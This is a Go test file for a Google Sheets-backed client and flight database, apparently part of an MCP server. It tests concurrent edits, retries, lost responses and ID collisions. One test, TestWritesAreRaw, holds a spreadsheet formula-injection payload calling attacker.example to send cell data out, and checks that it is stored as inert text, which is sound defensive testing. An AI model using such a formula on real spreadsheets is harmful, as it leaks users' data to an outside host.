package clientdb_test

import (
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/mcp-fleet/mcp-fleet/servers/sheets/internal/clientdb"
	"github.com/mcp-fleet/mcp-fleet/servers/sheets/internal/sheetsfake"
	"github.com/mcp-fleet/mcp-fleet/shared/mcperr"
)

// onFirst runs f before the first request of operation op.
func onFirst(e *env, op string, f func()) {
	var done atomic.Bool
	e.fake.OnRequest(func(o string) {
		if o == op && done.CompareAndSwap(false, true) {
			f()
		}
	})
}

// TestSortBetweenReadAndWrite: a person sorts the sheet after the server
// found the row and before its write arrives. The write lands on another
// client's row; the server sees it (the stamp is on the wrong row),
// restores that client and writes again on the right one.
func TestSortBetweenReadAndWrite(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	before := byID(t, e.db)
	onFirst(e, sheetsfake.OpBatchUpdate, func() { e.fake.Sort(sid, "Clients", 2, true) }) // CL-007's row 8 now holds CL-011
	res := must(e.db.Update(ctx, "CL-007", clientdb.Fields{Company: str("Whitaker Group"), VIPStatus: str("gold")}, *before["CL-007"].UpdatedAt))
	e.fake.OnRequest(nil)
	if res.Client.ClientID != "CL-007" || res.Client.Company != "Whitaker Group" || res.Client.VIPStatus != "gold" {
		t.Errorf("result %+v", res.Client)
	}
	if len(res.Notes) != 1 || !strings.Contains(res.Notes[0], "first landed on client CL-011, whose values were restored") {
		t.Errorf("notes %v", res.Notes)
	}
	after := byID(t, e.db)
	for id, r := range before {
		switch id {
		case "CL-007":
			if after[id].Company != "Whitaker Group" || after[id].Name != "Thomas Whitaker" {
				t.Errorf("CL-007 %+v", after[id])
			}
		case "CL-011":
			if !sameExceptStamp(r, after[id]) {
				t.Errorf("CL-011 was not restored: %+v → %+v", r, after[id])
			}
		default:
			if !sameExceptStamp(r, after[id]) || *r.UpdatedAt != *after[id].UpdatedAt {
				t.Errorf("client %s changed", id)
			}
		}
	}
	if got := e.changed.list(); !slices.Equal(got, []string{"CL-011", "CL-007"}) {
		t.Errorf("changes reported %v", got)
	}
}

// TestRowInsertedBetweenReadAndWrite: a blank row inserted above the
// client takes the write; it is emptied again and the write redone.
func TestRowInsertedBetweenReadAndWrite(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	onFirst(e, sheetsfake.OpBatchUpdate, func() { e.fake.InsertRow(sid, "Clients", 5) }) // CL-004 was on row 5
	res := must(e.db.Update(ctx, "CL-004", clientdb.Fields{Phone: str("+1-555-0144")}, ""))
	e.fake.OnRequest(nil)
	if res.Client.Phone != "+1-555-0144" || len(res.Notes) != 1 || !strings.Contains(res.Notes[0], "row without a client_id") {
		t.Errorf("result %+v", res)
	}
	if row := e.fake.Rows(sid, "Clients")[4]; !blank(row) {
		t.Errorf("the inserted row is not empty again: %v", row)
	}
	if c := must(e.db.Get(ctx, "CL-004", "client_id")); c.Phone != "+1-555-0144" || c.Name != "Mei Lin Chen" {
		t.Errorf("CL-004 %+v", c)
	}
}

// blank reports whether a row has no values.
func blank(row []any) bool {
	for _, v := range row {
		if v != nil && v != "" {
			return false
		}
	}
	return true
}

// TestRowsKeepMoving: when the rows move before every write, the server
// gives up after a few attempts, says so, and leaves every client as it
// was.
func TestRowsKeepMoving(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	before := byID(t, e.db)
	var n atomic.Int64
	e.fake.OnRequest(func(op string) {
		// Before every attempt (odd), not the restores (even): sorted by
		// name, ascending and descending in turn, so the client's row moves.
		if k := n.Add(1); op == sheetsfake.OpBatchUpdate && k%2 == 1 {
			e.fake.Sort(sid, "Clients", 2, (k-1)/2%2 == 1)
		} else if op != sheetsfake.OpBatchUpdate {
			n.Add(-1)
		}
	})
	_, err := e.db.Update(ctx, "CL-010", clientdb.Fields{Phone: str("+1-555-0999")}, "")
	e.fake.OnRequest(nil)
	if code(err) != mcperr.Conflict || !strings.Contains(err.Error(), "kept moving") || !mcpErr(err).Retryable() {
		t.Fatalf("update while the rows keep moving: %v", err)
	}
	after := byID(t, e.db)
	for id, r := range before {
		if !sameExceptStamp(r, after[id]) {
			t.Errorf("client %s changed: %+v → %+v", id, r, after[id])
		}
	}
}

func TestWritesAreRaw(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	evil := `=IMPORTXML("http://attacker.example/?q="&A1,"//a")`
	must(e.db.Update(ctx, "CL-002", clientdb.Fields{SpecialNeeds: &evil, Phone: str("0044")}, ""))
	must(e.db.Create(ctx, clientdb.Fields{Name: str("=1+1"), Email: str("calc@example.com")}))
	must(e.db.AddFlight(ctx, "CL-013", clientdb.FlightInput{Date: "2025-12-01", Route: "=2*3", Operator: "TRUE"}))
	if c := e.fake.Cell(sid, "Clients", 3, 8); c.Kind != "text" || c.Value != evil {
		t.Errorf("special_needs cell %+v", c)
	}
	if c := e.fake.Cell(sid, "Clients", 3, 4); c.Kind != "text" || c.Value != "0044" {
		t.Errorf("phone cell %+v", c)
	}
	if c := e.fake.Cell(sid, "Clients", 14, 2); c.Kind != "text" || c.Value != "=1+1" {
		t.Errorf("name cell %+v", c)
	}
	if c := e.fake.Cell(sid, "Flight_History", 10, 4); c.Kind != "text" || c.Value != "=2*3" {
		t.Errorf("route cell %+v", c)
	}
	for _, r := range e.fake.Requests() {
		if (r.Op == sheetsfake.OpBatchUpdate || r.Op == sheetsfake.OpAppend) && r.ValueInputOption != "RAW" {
			t.Errorf("%s sent with %q", r.Op, r.ValueInputOption)
		}
		if r.Op == sheetsfake.OpAppend && r.InsertDataOption != "INSERT_ROWS" {
			t.Errorf("append with %q", r.InsertDataOption)
		}
	}
	// Numbers and dates are typed on the way out.
	c := must(e.db.Get(ctx, "CL-013", "client_id"))
	if c.History.TotalFlights != 1 || *c.History.LastFlightDate != "2025-12-01" {
		t.Errorf("new client's history %+v", c.History)
	}
}

// TestFlightTotalsFailAndRepair: the history row is written, the totals
// are not (quota); the error says exactly that, and the same call again
// completes the totals without a second history row.
func TestFlightTotalsFailAndRepair(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	in := clientdb.FlightInput{Date: "2025-10-31", Route: "KTEB-MYNN", Aircraft: "Citation X"}
	e.fake.Fail(sheetsfake.OpBatchUpdate, 429, 3, sheetsfake.RetryAfter("0"))
	_, err := e.db.AddFlight(ctx, "CL-001", in)
	me := mcpErr(err)
	if me == nil || me.Code != mcperr.RateLimit || !me.Retryable() || !strings.Contains(me.Message, "is recorded in tab Flight_History (row 10), but client CL-001's totals were NOT updated") ||
		!strings.Contains(me.Message, "will not record the flight twice") {
		t.Fatalf("totals failure: %v", err)
	}
	report, _ := me.Value.(map[string]any)
	if report["written"].([]string)[0] != "Flight_History!10:10" || !slices.Contains(report["not_written"].([]string), "total_flights") {
		t.Errorf("report %v", report)
	}
	if c := must(e.db.Get(ctx, "CL-001", "client_id")); c.History.TotalFlights != 12 {
		t.Errorf("total after the failure: %d", c.History.TotalFlights)
	}
	res := must(e.db.AddFlight(ctx, "CL-001", in))
	if !res.AlreadyRecorded || !res.TotalsUpdated || res.Client.History.TotalFlights != 13 || *res.Client.History.LastFlightDate != "2025-10-31" {
		t.Errorf("retry: %+v", res)
	}
	if n := len(e.fake.Rows(sid, "Flight_History")); n != 10 {
		t.Errorf("history has %d rows, want 10 (header + 9)", n)
	}
}

// TestPendingTotalsRepairedByNextFlight: a later, different flight of the
// client also counts the one whose totals were never written.
func TestPendingTotalsRepairedByNextFlight(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	e.fake.Fail(sheetsfake.OpBatchUpdate, 500, 3)
	if _, err := e.db.AddFlight(ctx, "CL-004", clientdb.FlightInput{Date: "2025-06-01", Route: "A-B"}); code(err) != mcperr.Upstream {
		t.Fatalf("first: %v", err)
	}
	res := must(e.db.AddFlight(ctx, "CL-004", clientdb.FlightInput{Date: "2025-06-02", Route: "B-A"}))
	if res.Flight.ClientFlightNumber != 6 || res.Client.History.TotalFlights != 6 || *res.Client.History.LastFlightDate != "2025-06-02" {
		t.Errorf("second: flight %+v client %+v", res.Flight, res.Client.History)
	}
}

func TestFlightAppendFailures(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	// Refused before it took effect: nothing written.
	e.fake.Fail(sheetsfake.OpAppend, 429, 1, sheetsfake.RetryAfter("3"))
	_, err := e.db.AddFlight(ctx, "CL-002", clientdb.FlightInput{Date: "2025-11-01", Route: "KJFK-EGLL"})
	if me := mcpErr(err); me == nil || me.Code != mcperr.RateLimit || !strings.Contains(me.Message, "nothing was written") || me.Value.(map[string]any)["written"] != "nothing" {
		t.Errorf("append refused: %v", err)
	}
	if n := len(e.fake.Rows(sid, "Flight_History")); n != 9 {
		t.Errorf("history rows %d", n)
	}
	// A 500 leaves the append's outcome unknown; the check shows nothing
	// was written, so repeating the call is safe.
	e.fake.Fail(sheetsfake.OpAppend, 500, 1)
	_, err = e.db.AddFlight(ctx, "CL-002", clientdb.FlightInput{Date: "2025-11-01", Route: "KJFK-EGLL"})
	if me := mcpErr(err); me == nil || me.Code != mcperr.Upstream || !strings.Contains(me.Message, "nothing was written") || !me.Retryable() {
		t.Errorf("append failed, not landed: %v", err)
	}
	// Applied, but the answer was lost: the check finds the row.
	e.fake.Fail(sheetsfake.OpAppend, 503, 1, sheetsfake.AfterApply())
	res := must(e.db.AddFlight(ctx, "CL-002", clientdb.FlightInput{Date: "2025-11-01", Route: "KJFK-EGLL"}))
	if res.Client.History.TotalFlights != 32 || len(res.Notes) != 1 || !strings.Contains(res.Notes[0], "answer to the append was lost") {
		t.Errorf("lost answer: %+v", res)
	}
	// Applied, answer lost, and the check fails too: unknown, said so.
	e.fake.Fail(sheetsfake.OpAppend, 503, 1, sheetsfake.AfterApply())
	e.fake.Fail(sheetsfake.OpGet, 500, 3)
	in := clientdb.FlightInput{Date: "2025-11-05", Route: "EGLL-KJFK"}
	_, err = e.db.AddFlight(ctx, "CL-002", in)
	if me := mcpErr(err); me == nil || !strings.Contains(me.Message, "is unknown") || !strings.Contains(me.Message, "at most once") || me.Value.(map[string]any)["written"] != "unknown" || !me.Retryable() {
		t.Errorf("unknown outcome: %v", err)
	}
	res = must(e.db.AddFlight(ctx, "CL-002", in))
	if !res.AlreadyRecorded || res.Client.History.TotalFlights != 33 {
		t.Errorf("after the unknown outcome: %+v", res)
	}
}

func TestWriteAnswerLost(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	e.fake.Fail(sheetsfake.OpBatchUpdate, 503, 3, sheetsfake.AfterApply())
	res := must(e.db.Update(ctx, "CL-009", clientdb.Fields{Company: str("Okafor Holdings")}, ""))
	if res.Client.Company != "Okafor Holdings" || !slices.Equal(res.Changed, []string{"company"}) {
		t.Errorf("update whose answers were lost: %+v", res)
	}
	// Refused outright: nothing written, and said so.
	e.fake.Deny(sid, true)
	_, err := e.db.Update(ctx, "CL-009", clientdb.Fields{Company: str("x")}, "")
	if code(err) != mcperr.PermissionDeny {
		t.Errorf("denied: %v", err)
	}
	e.fake.Deny(sid, false)
	// Written, but reading it back fails: an error that says so.
	e.fake.OnRequest(func(op string) {
		if op == sheetsfake.OpBatchUpdate {
			e.fake.Fail(sheetsfake.OpGet, 500, 3)
		}
	})
	_, err = e.db.Update(ctx, "CL-009", clientdb.Fields{Company: str("Okafor Energy")}, "")
	e.fake.OnRequest(nil)
	if me := mcpErr(err); me == nil || !strings.Contains(me.Message, "was sent, but reading the tab back") {
		t.Errorf("unverified write: %v", err)
	}
}

func TestCreateBesideOtherData(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	e.fake.SetCell(sid, "Clients", 20, 16, "totals: see finance")
	_, err := e.db.Create(ctx, clientdb.Fields{Name: str("Nina"), Email: str("nina@example.com")})
	if code(err) != mcperr.Conflict || !strings.Contains(err.Error(), "landed at Clients!P21:AC21; it was removed again") {
		t.Fatalf("append below a note: %v", err)
	}
	rows := e.fake.Rows(sid, "Clients")
	if len(rows) != 21 || len(rows[19]) != 16 || !blank(rows[20]) {
		t.Errorf("rows after the undo: %d, last two %v", len(rows), rows[19:])
	}
	if p := must(e.db.List(ctx, "", 100)); p.Total != 12 {
		t.Errorf("clients: %d", p.Total)
	}
	// The same for a flight.
	e.fake.SetCell(sid, "Flight_History", 30, 12, "note")
	_, err = e.db.AddFlight(ctx, "CL-001", clientdb.FlightInput{Date: "2025-01-01", Route: "A-B"})
	if code(err) != mcperr.Conflict || !strings.Contains(err.Error(), "Flight_History has other data") {
		t.Errorf("flight append below a note: %v", err)
	}
}

func TestCreateLostAnswer(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	e.fake.Fail(sheetsfake.OpAppend, 502, 1, sheetsfake.AfterApply())
	res := must(e.db.Create(ctx, clientdb.Fields{Name: str("Lost"), Email: str("lost@example.com")}))
	if res.Client.ClientID != "CL-013" || len(res.Notes) != 1 {
		t.Errorf("create with a lost answer: %+v", res)
	}
	e.fake.Fail(sheetsfake.OpAppend, 429, 1)
	_, err := e.db.Create(ctx, clientdb.Fields{Name: str("Refused"), Email: str("refused@example.com")})
	if code(err) != mcperr.RateLimit || !strings.Contains(err.Error(), "not created") {
		t.Errorf("refused create: %v", err)
	}
	e.fake.Fail(sheetsfake.OpAppend, 502, 1, sheetsfake.AfterApply())
	onFirst(e, sheetsfake.OpAppend, func() { e.fake.Fail(sheetsfake.OpGet, 500, 3) })
	_, err = e.db.Create(ctx, clientdb.Fields{Name: str("Unknown"), Email: str("unknown@example.com")})
	e.fake.OnRequest(nil)
	if err == nil || !strings.Contains(err.Error(), "may or may not have been created as CL-014") {
		t.Errorf("unknown create: %v", err)
	}
	_, err = e.db.Create(ctx, clientdb.Fields{Name: str("Unknown"), Email: str("unknown@example.com")})
	if me := mcpErr(err); me == nil || me.Code != mcperr.Conflict || me.Value != "CL-014" {
		t.Errorf("the retry finds the client: %v", err)
	}
}

// TestCreateIDTaken: between the server's read and its append someone adds
// a row with the id the server chose; the server takes its row back and
// uses the next id.
func TestCreateIDTaken(t *testing.T) {
	defer catch(t)
	e := googleEnv(t)
	onFirst(e, sheetsfake.OpAppend, func() { e.fake.SetCell(sid, "Clients", 14, 1, "CL-013") })
	res := must(e.db.Create(ctx, clientdb.Fields{Name: str("Second"), Email: str("second@example.com")}))
	e.fake.OnRequest(nil)
	if res.Client.ClientID != "CL-014" || len(res.Notes) != 1 || !strings.Contains(res.Notes[0], "CL-013 was taken") {
		t.Errorf("create: %+v", res)
	}
	if p := must(e.db.List(ctx, "", 100)); p.Total != 14 || len(p.Warnings) != 0 {
		t.Errorf("list: %d clients, warnings %v", p.Total, p.Warnings)
	}
}
